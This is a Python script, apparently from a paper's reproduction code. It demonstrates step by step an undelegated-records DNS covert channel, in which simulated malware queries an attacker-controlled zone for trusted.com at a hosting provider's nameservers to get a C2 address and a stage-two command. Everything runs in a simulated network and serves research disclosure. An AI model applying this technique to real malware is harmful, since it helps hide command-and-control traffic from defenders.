#!/usr/bin/env python3
"""The UR covert channel, step by step (the paper's Figure 1 threat model).

Builds a minimal world by hand — no scenario generator — and walks the
five numbered steps of the threat model:

  ① the attacker hosts undelegated records for ``trusted.com`` at a
    reputable provider (no ownership check!);
  ② the "malware" (a few lines below) is configured with the domain and
    the provider's nameservers only;
  ③ the malware resolves trusted.com *directly at the provider's
    nameservers*, retrieving the attacker's record;
  ④ the DNS traffic looks benign: a top domain, a reputable nameserver;
  ⑤ the victim connects to the C2 address it received.

It then shows why the channel is covert: the normal recursive resolution
of trusted.com still returns the legitimate address.
"""

from repro.dns import Message, RecursiveResolver, RRType
from repro.hosting import DnsRoot, make_cloudflare, make_godaddy
from repro.net import PrefixPlanner, SimulatedInternet, TrafficCapture


def main() -> None:
    network = SimulatedInternet()
    root = DnsRoot(network)
    planner = PrefixPlanner()

    # The victim domain's legitimate hosting: GoDaddy.
    godaddy = make_godaddy(network, planner.pool("godaddy"))
    root.connect_provider(godaddy)
    owner = godaddy.create_account()
    legit = godaddy.host_zone(owner, "trusted.com", is_registered=True)
    godaddy.add_record(legit, "trusted.com", "A", "198.51.100.10")
    root.register("trusted.com", "the-real-owner")
    root.delegate("trusted.com", godaddy.nameserver_set_for_delegation(legit))

    # ① The attacker hosts trusted.com at Cloudflare — which they do not
    #   own — and points it at their C2 server.
    cloudflare = make_cloudflare(
        network, planner.pool("cloudflare"), post_disclosure=False
    )
    root.connect_provider(cloudflare)
    attacker_account = cloudflare.create_account()
    ur_zone = cloudflare.host_zone(
        attacker_account, "trusted.com", is_registered=True
    )
    c2_address = "203.0.113.66"
    cloudflare.add_record(ur_zone, "trusted.com", "A", c2_address)
    cloudflare.add_record(
        ur_zone, "trusted.com", "TXT", '"cmd=retrieve-stage2;port=4444"'
    )
    ur_nameserver = ur_zone.nameserver_addresses()[0]
    print(
        f"① attacker hosted trusted.com at Cloudflare "
        f"({ur_zone.nameserver_names()[0]}) -> {c2_address}"
    )

    # ② The malware ships with (domain, nameserver) only — no IP, no
    #   attacker domain, nothing blockable without collateral damage.
    print(f"② malware config: resolve trusted.com @ {ur_nameserver}")

    # ③ Retrieval: a direct query to the provider's nameserver.
    victim_ip = "192.0.2.50"
    network.register_stub(victim_ip)
    monitor = TrafficCapture()  # a tap on the victim's traffic
    with network.capturing(monitor):
        response = network.query_dns(
            victim_ip,
            ur_nameserver,
            Message.make_query(
                "trusted.com", RRType.A, recursion_desired=False
            ),
        )
        txt_response = network.query_dns(
            victim_ip,
            ur_nameserver,
            Message.make_query(
                "trusted.com", RRType.TXT, recursion_desired=False
            ),
        )
    retrieved = response.answers[0].rdata.address
    command = txt_response.answers[0].rdata.value
    print(f"③ UR answer: trusted.com A {retrieved}, TXT {command!r}")

    # ④ Covertness: ordinary resolution is untouched.
    resolver = RecursiveResolver("9.9.9.9", network, root.root_addresses)
    legit_answer = resolver.lookup_a("trusted.com")
    print(
        f"④ normal recursive resolution still returns {legit_answer} — "
        "the hijack is invisible to everyone except clients who query "
        "the attacker's assigned nameservers"
    )
    assert legit_answer == ["198.51.100.10"]
    assert retrieved == c2_address

    # ⑤ The victim acts on the retrieved information.
    class C2:
        def handle_tcp_connect(self, src, port, payload, network):
            return b"stage2-payload"

    network.register_tcp_host(c2_address, C2())
    with network.capturing(monitor):
        reply = network.connect_tcp(victim_ip, retrieved, 4444, b"hello-c2")
    print(f"⑤ victim connected to C2 {retrieved}:4444 -> {reply!r}")

    print(
        "\ncaptured flows (what a monitor on the victim's link would see):"
    )
    for flow in monitor:
        print("  " + flow.describe())


if __name__ == "__main__":
    main()
